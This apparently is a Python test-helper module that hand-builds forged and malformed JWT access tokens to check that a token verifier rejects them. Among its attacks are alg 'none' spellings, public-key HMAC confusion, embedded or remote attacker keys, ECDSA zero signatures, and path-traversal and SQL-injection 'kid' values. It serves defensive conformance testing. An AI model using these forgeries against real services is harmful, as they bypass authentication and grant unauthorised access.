"""Forged and malformed access tokens: what an EES must refuse (EES-TOK-03, -11).

joserfc rightly refuses to mint most of these, so they are built by hand with
:func:`compact`. Each function is one attack, named after what it does, and takes a valid
token, a claim set and/or the trusted :class:`TokenIssuer`. They fall in three groups.

**Broken signatures** (RFC 8725 3.3: every signature must be verified)
    :func:`tampered_signature`, :func:`tampered_payload`, :func:`stripped_signature`
    (CVE-2020-28042), :func:`ecdsa_zero_signature` (CVE-2022-21449).

**Keys and algorithms the attacker chooses** (RFC 8725 3.1, 3.2, 3.10)
    :func:`alg_none` (CVE-2015-2951), :func:`hs256_with_public_key` (CVE-2016-10555),
    :func:`embedded_jwk` (CVE-2018-0114), :func:`jku_elsewhere`, :func:`x5u_elsewhere`,
    :func:`unknown_kid`, :func:`injected_kid`, :func:`untrusted_issuer_key` (RFC 8725 3.8).

**Malformed shapes** (RFC 7515 7.1, RFC 7519 7.2; robustness, never a 5xx)
    :func:`two_segments`, :func:`four_segments`, :func:`bad_base64`, :func:`non_json_payload`,
    :func:`oversized`, :func:`wrong_claim_types`. The last three carry a *valid* signature
    from the trusted issuer, so an EES cannot dismiss them on the signature and must get
    through its payload parser and claim validation without crashing.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import math
import time
from typing import Any

from joserfc.jwk import ECKey, Key

from conformance.issued_tokens import decode_unverified
from conformance.peers.fake_ecs_issuer import ACCESS_TOKEN_TYPE, TokenIssuer, default_algorithm, sign

__all__ = [
    "ALG_NONE_SPELLINGS",
    "INJECTED_KIDS",
    "alg_none",
    "b64url",
    "bad_base64",
    "compact",
    "ecdsa_zero_signature",
    "embedded_jwk",
    "four_segments",
    "hs256_with_public_key",
    "injected_kid",
    "jku_elsewhere",
    "non_json_payload",
    "oversized",
    "stripped_signature",
    "tampered_payload",
    "tampered_signature",
    "two_segments",
    "unknown_kid",
    "untrusted_issuer_key",
    "wrong_claim_types",
    "x5u_elsewhere",
]

ALG_NONE_SPELLINGS: tuple[str, ...] = ("none", "None", "NONE", "nOnE")
"""Case variants of ``none`` that slipped past case-sensitive deny-lists (CVE-2015-2951)."""

INJECTED_KIDS: tuple[tuple[str, bytes], ...] = (
    ("../../../../../../../../dev/null", b""),
    ("x' UNION SELECT '1'; --", b"1"),
)
"""``(kid, secret)`` pairs: a ``kid`` that, fed to a file or SQL lookup, yields ``secret``
as the HMAC key (/dev/null reads as empty; the UNION returns ``'1'``). From jwt_tool and
the PortSwigger kid path-traversal lab; RFC 8725 3.10."""

_ECDSA_SIGNATURE_BYTES = {"ES256": 64, "ES384": 96, "ES512": 132}  # RFC 7518 3.4: r || s


# --- building blocks -----------------------------------------------------------------


def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 section 2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _json(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode()


def compact(header: dict[str, Any], claims: dict[str, Any] | bytes, signature: bytes = b"") -> str:
    """``header.payload.signature`` from parts, with no checks at all. ``claims`` may be raw bytes."""
    payload = claims if isinstance(claims, bytes) else _json(claims)
    return f"{b64url(_json(header))}.{b64url(payload)}.{b64url(signature)}"


def _split(token: str) -> tuple[str, str, str]:
    segments = token.split(".")
    if len(segments) != 3:
        raise ValueError(f"expected a token of three segments, got {len(segments)}")
    return segments[0], segments[1], segments[2]


def _access_token_header(alg: str, **members: Any) -> dict[str, Any]:
    return {"alg": alg, "typ": ACCESS_TOKEN_TYPE, **{k: v for k, v in members.items() if v is not None}}


# --- broken signatures ---------------------------------------------------------------


def tampered_signature(token: str) -> str:
    """Change one character in the middle of the signature.

    The middle, not the end: the last base64url character may carry unused bits, so
    changing it can leave the decoded signature identical (RFC 4648 3.5).
    """
    header, payload, signature = _split(token)
    if len(signature) < 3:
        raise ValueError("the token has no signature to tamper with")
    middle = len(signature) // 2
    replacement = "A" if signature[middle] != "A" else "B"
    return f"{header}.{payload}.{signature[:middle]}{replacement}{signature[middle + 1 :]}"


def tampered_payload(token: str, **claim_changes: Any) -> str:
    """Change claims and keep the old signature; with no changes, extend ``exp`` by an hour."""
    header, _, signature = _split(token)
    _, claims = decode_unverified(token)
    changes = claim_changes or {"exp": int(claims.get("exp", time.time())) + 3600}
    return f"{header}.{b64url(_json({**claims, **changes}))}.{signature}"


def stripped_signature(token: str) -> str:
    """``header.payload.`` with the header still naming a signature algorithm (CVE-2020-28042)."""
    header, payload, _ = _split(token)
    return f"{header}.{payload}."


def ecdsa_zero_signature(token: str) -> str:
    """The same header and claims with a signature of r = s = 0 (CVE-2022-21449).

    Java 15-18 accepted these "psychic signatures" for any message and key. A token not
    already ES256/384/512 is relabelled ES256, so the probe works whatever the issuer uses.
    """
    header_segment, payload, _ = _split(token)
    header, _ = decode_unverified(token)
    alg = header.get("alg")
    if alg not in _ECDSA_SIGNATURE_BYTES:
        alg = "ES256"
        header_segment = b64url(_json({**header, "alg": alg}))
    return f"{header_segment}.{payload}.{b64url(bytes(_ECDSA_SIGNATURE_BYTES[alg]))}"


# --- keys and algorithms the attacker chooses ------------------------------------------


def alg_none(claims: dict[str, Any], *, alg_spelling: str = "none", kid: str | None = None) -> str:
    """An unsecured JWT: ``alg`` ``none`` in any spelling, empty signature (CVE-2015-2951)."""
    return compact(_access_token_header(alg_spelling, kid=kid), claims)


def hs256_with_public_key(claims: dict[str, Any], public_pem: bytes, *, kid: str | None = None) -> str:
    """HS256 keyed with the issuer's public key PEM bytes (CVE-2016-10555).

    A verifier that lets the header pick the algorithm and hands it "the key" turns the
    public key into an HMAC secret everyone knows (RFC 8725 3.1). Pass the issuer's
    ``kid`` to steer a kid-based lookup to the trusted key.
    """
    signing_input = f"{b64url(_json(_access_token_header('HS256', kid=kid)))}.{b64url(_json(claims))}"
    mac = hmac.new(public_pem, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{b64url(mac)}"


def embedded_jwk(claims: dict[str, Any], attacker_key: Key) -> str:
    """Signed by the attacker, whose public key rides in the ``jwk`` header (CVE-2018-0114)."""
    public = dict(attacker_key.as_dict(private=False))
    header = _access_token_header(default_algorithm(attacker_key), jwk=public)
    return sign(header, _json(claims), attacker_key)


def jku_elsewhere(claims: dict[str, Any], attacker_key: Key, url: str) -> str:
    """Signed by the attacker, ``jku`` pointing at the attacker's JWKS (RFC 8725 3.10).

    The EES must neither trust nor fetch ``url``; serve it to see whether it is fetched.
    """
    attacker_key.ensure_kid()
    header = _access_token_header(default_algorithm(attacker_key), jku=url, kid=attacker_key.kid)
    return sign(header, _json(claims), attacker_key)


def x5u_elsewhere(claims: dict[str, Any], attacker_key: Key, url: str) -> str:
    """Signed by the attacker, ``x5u`` pointing at the attacker's certificate (RFC 8725 3.10)."""
    header = _access_token_header(default_algorithm(attacker_key), x5u=url)
    return sign(header, _json(claims), attacker_key)


def unknown_kid(issuer: TokenIssuer, claims: dict[str, Any], *, kid: str = "no-such-key") -> str:
    """Signed by the *trusted* key, under a ``kid`` the EES does not know.

    The signature is genuine, so only an EES that resolves ``kid`` refuses it; one that
    ignores ``kid`` and tries every trusted key accepts it.
    """
    return issuer.mint(claims, kid=kid)


def injected_kid(
    issuer: TokenIssuer,
    claims: dict[str, Any],
    *,
    kid: str = INJECTED_KIDS[0][0],
    secret: bytes | None = INJECTED_KIDS[0][1],
) -> str:
    """A ``kid`` built to break a file or SQL key lookup (RFC 8725 3.10).

    By default HS256-signed with ``secret``, the key such a lookup would return (see
    :data:`INJECTED_KIDS`). ``secret=None`` signs with the issuer's real key instead, to see
    whether a hostile ``kid`` alone upsets the EES (a 5xx, a delay).
    """
    if secret is None:
        return issuer.mint(claims, kid=kid)
    signing_input = f"{b64url(_json(_access_token_header('HS256', kid=kid)))}.{b64url(_json(claims))}"
    mac = hmac.new(secret, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{b64url(mac)}"


def untrusted_issuer_key(
    claims: dict[str, Any],
    *,
    issuer_name: str | None = None,
    key: Key | None = None,
    kid: str | None = None,
) -> str:
    """A well-formed token from a key the EES does not trust (RFC 8725 3.8, RFC 9068 4).

    ``iss`` becomes ``issuer_name`` (default: the claims' own ``iss``, i.e. an impostor of
    the trusted ECS). ``key`` defaults to a fresh P-256 key; ``kid`` defaults to that
    key's thumbprint, pass the trusted issuer's ``kid`` to aim the lookup at the trusted key.
    """
    name = issuer_name if issuer_name is not None else str(claims.get("iss", "untrusted.example"))
    fresh = TokenIssuer(key or ECKey.generate_key("P-256"), issuer=name)
    return fresh.mint({**claims, "iss": name}, kid=kid or fresh.kid)


# --- malformed shapes ----------------------------------------------------------------


def two_segments(token: str) -> str:
    """``header.payload``: the signature segment and its dot removed."""
    header, payload, _ = _split(token)
    return f"{header}.{payload}"


def four_segments(token: str) -> str:
    """A fourth segment appended (three is a JWS, five a JWE; four is neither)."""
    return f"{token}.{b64url(b'extra')}"


def bad_base64(token: str) -> str:
    """A character outside the base64url alphabet in the middle of the payload segment."""
    header, payload, signature = _split(token)
    middle = len(payload) // 2
    return f"{header}.{payload[:middle]}*{payload[middle + 1 :]}.{signature}"


def non_json_payload(issuer: TokenIssuer, *, payload: bytes = b"not a JSON claim set") -> str:
    """A genuine signature by the trusted issuer over a payload that is not a JSON object."""
    header = _access_token_header(issuer.algorithm, kid=issuer.kid)
    return sign(header, payload, issuer.key)


def oversized(issuer: TokenIssuer, claims: dict[str, Any], *, size: int = 16_384) -> str:
    """A validly signed token of at least ``size`` characters, padded with a ``pad`` claim."""
    base = issuer.mint({**claims, "pad": ""})
    # Every 3 payload bytes become 4 base64url characters (RFC 4648 5).
    padding = max(0, math.ceil((size - len(base)) * 3 / 4))
    token = issuer.mint({**claims, "pad": "x" * padding})
    while len(token) < size:
        padding += 1
        token = issuer.mint({**claims, "pad": "x" * padding})
    return token


def wrong_claim_types(issuer: TokenIssuer, claims: dict[str, Any], **replacements: Any) -> str:
    """Validly signed, with claims of the wrong JSON type (RFC 7519 4.1).

    By default ``exp`` becomes a string (a NumericDate is a number, 4.1.4) and ``aud`` a
    number (a StringOrURI or an array of them, 4.1.3); ``replacements`` choose others.
    """
    changes = replacements or {"exp": str(claims.get("exp", int(time.time()) + 300)), "aud": 33558}
    return issuer.mint({**claims, **changes})
